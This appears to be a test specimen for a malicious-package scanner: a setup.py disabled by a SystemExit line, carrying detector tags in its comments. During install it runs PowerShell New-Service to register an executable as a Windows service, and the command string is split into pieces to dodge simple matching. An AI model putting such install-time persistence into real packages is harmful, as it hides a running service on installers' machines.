raise SystemExit("specimen: not to be run")
import os
from setuptools import setup

os.system("powershell New-Service" + " -Name specimen -Binar" + "yPathName specimen.exe")  # match: windows-service  # match: process-at-install
setup(name="specimen")
